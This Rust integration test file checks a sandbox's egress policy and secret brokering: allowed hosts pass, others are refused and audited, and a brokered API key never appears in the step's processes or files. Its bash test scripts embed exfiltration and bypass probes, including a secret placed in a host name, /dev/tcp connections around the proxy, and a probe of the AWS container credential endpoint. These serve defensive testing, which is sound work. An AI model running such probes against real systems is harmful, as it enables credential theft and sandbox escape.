//! Which hosts steps reach, and which keys get there without the step having them: with a worker of
//! the whole product, from the profile to the trail.

use std::path::Path;
use std::time::Duration;

use sealfleet_domain::run::RunState;
use sealfleet_test_stack::canary::{self, Kind, Needle, Report, search_process};
use sealfleet_test_stack::processes::{self, Sleeper};
use sealfleet_test_stack::project::{FARGATE, PULL, is_over, merged, run_of, step};
use sealfleet_test_stack::upstream::GREETING;
use sealfleet_test_stack::worker::BuiltinStore;
use sealfleet_test_stack::{
    Failure, Outcome, Project, Stack, Upstream, WorkerProcess, ensure, ensure_eq, eventually,
    unique,
};
use serde_json::{Value, json};

const SOON: Duration = Duration::from_secs(90);

/// Asks a host for a page by plain HTTP, or by TLS with the key, through the proxy.
pub const ASK: &str = r#"
plain() {
    exec 3<>/dev/tcp/127.0.0.1/3128 || return
    printf 'GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-Key: %s\r\nConnection: close\r\n\r\n' "$1" "$1" "$API_KEY" >&3
    cat <&3
}
secure() {
    printf 'GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' "$2" "$1" "$API_KEY" |
        openssl s_client -quiet -proxy 127.0.0.1:3128 -connect "$1" -verify_return_error \
            -verify_ip 127.0.0.1 -CAfile "$SSL_CERT_FILE" 2>/tmp/openssl || cat /tmp/openssl
}
"#;

/// A worker that lends its loopback to the policies of its steps.
async fn lending(
    stack: &Stack,
    project: &Project,
    store: &BuiltinStore,
    authority: Option<&Path>,
) -> Outcome<WorkerProcess> {
    let rootfs = stack.parts.directory.join("rootfs");
    let mut options = vec![
        ("--network", "policy".to_owned()),
        ("--egress-network", "127.0.0.0/8".to_owned()),
    ];
    options.extend(authority.map(|path| ("--egress-ca", path.display().to_string())));
    WorkerProcess::start_with(&rootfs, &options, stack, project, store, &[]).await
}

async fn enqueued(project: &Project, pool: &str, script: &str) -> Outcome<String> {
    let script = format!("{ASK}{script}");
    let only = json!({ "pool": pool, "mode": "identity", "command": ["bash", "-c", script] });
    let body = merged(run_of(&[step("only", &only)]), &json!({ "profile": "own" }));
    project.enqueue(&body).await
}

async fn output(project: &Project, run: &str) -> Outcome<String> {
    let path = format!("/v1/runs/{run}/steps/only/output");
    let page = project.member.get(&path).await?.body;
    let items = page["items"].as_array().into_iter().flatten();
    let texts = items.filter_map(|item| item["text"].as_str());
    Ok(texts.collect())
}

/// 80. Allowed host passes; any other is refused, audited while the step runs and at its end. What
///     a host's name holds of a secret never passes the worker.
pub async fn s80_a_step_reaches_what_its_profile_allows(stack: &Stack) -> Outcome {
    let project = stack.project("eighty").await?;
    let store = BuiltinStore::create(stack, &project).await?;
    let worker = lending(stack, &project, &store, None).await?;
    let allowed = Upstream::plain().await?;
    // As a host's name can hold it.
    let value = format!("canary-{}-{}", unique(), "0123456789abcdef".repeat(2));
    let stored = store.put("inside", &value).await?;
    let own = json!({
        "secrets": { "INSIDE": stored.pinned() },
        "egress": { "allow": [{ "host": "127.0.0.1", "port": allowed.port }] },
    });
    project.admin.create_profile("own", &own).await?;
    let sleeper = Sleeper::new();
    let asleep = sleeper.command();
    let asleep = asleep[1].as_str().unwrap_or_default();
    let script = format!(
        "plain 127.0.0.1:{}; plain other.example:80; plain \"$INSIDE.example:80\"
         sleep {asleep}
         plain late.example:80",
        allowed.port
    );
    let run = enqueued(&project, PULL, &script).await?;
    let sleeping = sleeper.until(1, SOON).await;
    sleeping.map_err(|failure| Failure::new(format!("{failure}\n{}", worker.log())))?;
    let denied = project.event(&run, "egress.denied", SOON).await?;
    ensure_eq!(project.state(&run, "only").await?, "running", "the step");
    let rows = |event: &Value| {
        let rows = event["rows"].as_array().cloned().unwrap_or_default();
        rows.iter()
            .map(|row| row["host"].as_str().unwrap_or_default().to_owned())
            .collect::<Vec<_>>()
    };
    ensure_eq!(rows(&denied), ["other.example"], "while it runs: {denied}");
    ensure_eq!(
        denied["others"],
        1,
        "the host with a value in its name: {denied}"
    );
    // The worker has told it, and never had the name.
    let needle = Needle::new(&value)?;
    let mut found = Report::default();
    for pid in worker.own_processes() {
        search_process(&needle, pid, &mut found);
    }
    ensure!(found.found.is_empty(), "in the worker: {:?}", found.found);
    let mut proof = Report::default();
    for pid in sleeper.asleep() {
        search_process(&needle, pid, &mut proof);
    }
    ensure!(proof.found_in(Kind::Arguments), "the search finds nothing");
    sleeper.wake();
    let ended = project.finished(&run, SOON).await?;
    ensure_eq!(
        ended.state,
        RunState::Succeeded,
        "{ended:?}\n{}",
        worker.log()
    );
    let all = project.events(&run, "egress.denied").await?;
    let hosts: Vec<String> = all.iter().flat_map(rows).collect();
    ensure_eq!(
        hosts,
        ["other.example", "late.example"],
        "at its end: {all:?}"
    );
    let text = output(&project, &run).await?;
    ensure_eq!(text.matches(GREETING).count(), 1, "greetings: {text}");
    ensure_eq!(text.matches("HTTP/1.1 403").count(), 3, "refusals: {text}");
    ensure_eq!(allowed.heads().len(), 1, "requests of the allowed host");
    Ok(())
}

/// 81. A brokered key: upstream receives it, the step's memory, environment, files and /proc never
///     hold it; to another host -> 403 and an event; revoked -> the next request is refused.
pub async fn s81_a_key_at_egress_is_never_in_the_step(stack: &Stack) -> Outcome {
    let project = stack.project("eightyone").await?;
    let store = BuiltinStore::create(stack, &project).await?;
    let (bound, other) = (Upstream::tls().await?, Upstream::plain().await?);
    let authority = stack.scratch.join(format!("authority-{}", unique()));
    std::fs::write(&authority, bound.authority.clone().unwrap_or_default())?;
    let worker = lending(stack, &project, &store, Some(&authority)).await?;
    let (value, inside) = (canary::value(), canary::value());
    let (key, control) = (
        store.put("key", &value).await?,
        store.put("inside", &inside).await?,
    );
    let own = brokered(&bound, &other, &key.pinned(), &control.pinned());
    project.admin.create_profile("own", &own).await?;
    let sleeper = Sleeper::new();
    let asleep = sleeper.command();
    let asleep = asleep[1].as_str().unwrap_or_default();
    let (at, elsewhere) = (
        format!("127.0.0.1:{}", bound.port),
        format!("127.0.0.1:{}", other.port),
    );
    let script = format!(
        "case $API_KEY in sk-ant-sealfleet-placeholder-*) echo recognised;; esac
         echo \"it is $API_KEY\"
         secure {at} /v1/messages; secure {at} /v2; plain {elsewhere}
         sleep {asleep}
         for try in $(seq 120); do
             secure {at} /v1/again > /tmp/answer
             if grep -q ' 403 ' /tmp/answer; then echo withdrawn; exit 0; fi
             sleep 0.5
         done
         exit 1"
    );
    let run = enqueued(&project, PULL, &script).await?;
    let sleeping = sleeper.until(1, SOON).await;
    let sleeping =
        sleeping.map_err(|failure| Failure::new(format!("{failure}\n{}", worker.log())))?;

    let beside = worker.own_processes();
    only_the_proxy_has((&value, &inside), &sleeping, &beside, (&bound, &other))?;
    mismatched(&project, &run, (&bound, &other)).await?;

    // A soft revocation takes it back from the step that runs.
    project.admin.revoke(&[("own", "API_KEY")], false).await?;
    sleeper.wake();
    let ended = eventually("the end of the run", SOON, async || {
        let shown = project.run(&run).await?;
        Ok(is_over(&shown).then_some(shown))
    })
    .await?;
    let text = output(&project, &run).await?;
    ensure_eq!(ended.state, RunState::Succeeded, "{text}\n{}", worker.log());
    ensure!(text.contains("recognised"), "its form: {text}");
    ensure!(
        text.contains("it is <redacted:API_KEY>"),
        "its placeholder: {text}"
    );
    ensure!(
        text.contains(GREETING) && text.contains("withdrawn"),
        "{text}"
    );
    ensure!(
        Needle::new(&value)?.find(text.as_bytes()).is_none(),
        "the key is in the output"
    );
    let decrypted = project.events(&run, "secret.decrypted").await?;
    ensure_eq!(
        decrypted.len(),
        2,
        "both versions are on record: {decrypted:?}"
    );
    Ok(())
}

/// 80, 81. The same in a task of Fargate: a command goes by its proxy, in the task's second
///         container, or nowhere, and not to the credentials of its task either. A brokered key is
///         in that container alone.
pub async fn s81_a_key_at_egress_is_in_the_second_container_alone(stack: &Stack) -> Outcome {
    let project = stack.project("eightyone-fargate").await?;
    let (bound, other) = (Upstream::tls().await?, Upstream::plain().await?);
    // The proxy believes the authorities of its image.
    let certificates = stack.parts.directory.join("rootfs/etc/ssl/certs");
    std::fs::create_dir_all(&certificates)?;
    let authority = bound.authority.clone().unwrap_or_default();
    std::fs::write(certificates.join("ca-certificates.crt"), authority)?;
    let (value, inside) = (canary::value(), canary::value());
    let (key, control) = (
        project.aws_secret(stack, "key", &value).await?,
        project.aws_secret(stack, "inside", &inside).await?,
    );
    let own = brokered(&bound, &other, &key.uri, &control.uri);
    project.admin.create_profile("own", &own).await?;
    let sleeper = Sleeper::new();
    let asleep = sleeper.command();
    let asleep = asleep[1].as_str().unwrap_or_default();
    let (at, elsewhere) = (
        format!("127.0.0.1:{}", bound.port),
        format!("127.0.0.1:{}", other.port),
    );
    let script = format!(
        "for around in 127.0.0.1/{} 127.0.0.1/3127 169.254.170.2/80; do
             (exec 4<>/dev/tcp/$around) 2> /dev/null && echo bypassed $around
         done
         env | grep AWS_CONTAINER
         echo \"it is $API_KEY\"
         secure {at} /v1/messages; secure {at} /v2; plain {elsewhere}; plain other.example:80
         sleep {asleep}
         for try in $(seq 120); do
             secure {at} /v1/again > /tmp/answer
             if grep -q ' 403 ' /tmp/answer; then echo withdrawn; exit 0; fi
             sleep 0.5
         done
         exit 1",
        other.port,
    );
    let run = enqueued(&project, FARGATE, &script).await?;
    let sleeping = sleeper.until(1, SOON).await?;
    only_the_proxy_has((&value, &inside), &sleeping, &[], (&bound, &other))?;
    let tasks = project.tasks(stack, &run, &["RUNNING"]).await?;
    let containers = tasks.iter().flat_map(|task| task["containers"].as_array());
    let names: Vec<_> = containers
        .flatten()
        .map(|one| one["name"].clone())
        .collect();
    ensure_eq!(names, ["egress", "sandbox"], "in the order of their start");

    // The trail has it while the step runs, and a soft revocation takes the key back from it.
    let denied = project.event(&run, "egress.denied", SOON).await?;
    ensure!(
        denied.to_string().contains("other.example"),
        "while it runs: {denied}"
    );
    mismatched(&project, &run, (&bound, &other)).await?;
    ensure!(!is_over(&project.run(&run).await?), "it has ended before");
    project.admin.revoke(&[("own", "API_KEY")], false).await?;
    sleeper.wake();
    let ended = project.finished(&run, SOON).await?;
    let text = output(&project, &run).await?;
    ensure_eq!(ended.state, RunState::Succeeded, "{text}");
    ensure!(text.contains("it is <redacted:API_KEY>"), "{text}");
    ensure!(
        text.contains(GREETING) && text.contains("withdrawn"),
        "{text}"
    );
    let around = text.contains("bypassed") || text.contains("AWS_CONTAINER");
    ensure!(!around, "around the proxy: {text}");
    // What went around the proxy is told at the end.
    let denied = eventually("all denials", SOON, async || {
        let denied = project.events(&run, "egress.denied").await?;
        let denied = json!(denied).to_string();
        Ok(denied.contains("169.254.170.2").then_some(denied))
    })
    .await?;
    let told = denied.matches("other.example").count();
    ensure_eq!(told, 1, "told once: {denied}");
    let reached = project.event(&run, "egress.allowed", SOON).await?;
    ensure_eq!(reached["rows"][0]["port"], bound.port, "{reached}");
    Ok(())
}

/// A profile whose `API_KEY` goes to one host alone, on one path.
fn brokered(bound: &Upstream, other: &Upstream, key: &str, control: &str) -> Value {
    json!({
        "secrets": { "API_KEY": key, "INSIDE": control },
        "delivery": {
            "API_KEY": { "egress": {
                "to": [{ "host": "127.0.0.1", "port": bound.port, "path": "/v1/*" }],
                "prefix": "sk-ant-",
            } },
        },
        "egress": { "allow": [
            { "host": "127.0.0.1", "port": bound.port },
            { "host": "127.0.0.1", "port": other.port },
        ] },
    })
}

/// The bound host got the value, and the other one did not. No process or file of the step has it,
/// nor has any `beside`; its proxy does. Of both values, the step has the second one.
fn only_the_proxy_has(
    (value, inside): (&str, &str),
    sleeping: &[u32],
    beside: &[u32],
    (bound, other): (&Upstream, &Upstream),
) -> Outcome {
    let authorization = format!("Bearer {value}");
    ensure_eq!(
        bound.heads_with(&authorization),
        1,
        "with the key: {:?}",
        bound.heads()
    );
    ensure_eq!(
        bound.heads().len(),
        1,
        "on another path: {:?}",
        bound.heads()
    );
    ensure!(
        other.heads().is_empty(),
        "another host: {:?}",
        other.heads()
    );

    // The same search finds what the step does have.
    let (needle, control) = (Needle::new(value)?, Needle::new(inside)?);
    let family = processes::up_to_init(sleeping);
    ensure!(family.len() >= 3, "the step's processes: {family:?}");
    let (mut found, mut proof) = (Report::default(), Report::default());
    for &pid in family.iter().chain(beside) {
        search_process(&needle, pid, &mut found);
    }
    for &pid in &family {
        search_process(&control, pid, &mut proof);
    }
    ensure!(
        found.found.is_empty(),
        "the key is in the step: {:?}",
        found.found
    );
    ensure!(
        proof.found_in(Kind::Memory),
        "the search finds nothing in memory"
    );
    ensure!(
        proof.found_in(Kind::Arguments),
        "the search finds nothing in /proc"
    );
    for pid in sleeping {
        let root = std::path::PathBuf::from(format!("/proc/{pid}/root"));
        for place in ["run", "tmp", "workspace", "dev/shm"] {
            let held = canary::files_with(&needle, &root.join(place))?;
            ensure!(held.is_empty(), "the key is in files: {held:?}");
        }
    }
    // And its proxy does have it: the needle is a good one.
    let proxies = processes::all().into_iter();
    let proxies = proxies.filter(|process| process.name == "sealfleet-init");
    let mut in_proxy = Report::default();
    for proxy in proxies.filter(|process| !family.contains(&process.pid)) {
        search_process(&needle, proxy.pid, &mut in_proxy);
    }
    ensure!(in_proxy.found_in(Kind::Memory), "no proxy has the key");
    Ok(())
}

/// The trail says where the placeholder was refused.
async fn mismatched(
    project: &Project,
    run: &str,
    (bound, other): (&Upstream, &Upstream),
) -> Outcome {
    let mismatch = project
        .event(run, "egress.credential_mismatch", SOON)
        .await?;
    let rows = mismatch["rows"].as_array().cloned().unwrap_or_default();
    let ports: Vec<_> = rows.iter().map(|row| row["port"].as_u64()).collect();
    for port in [bound.port, other.port] {
        ensure!(ports.contains(&Some(port.into())), "{port}: {mismatch}");
    }
    ensure!(rows.iter().all(|row| row["key"] == "API_KEY"), "{mismatch}");
    Ok(())
}
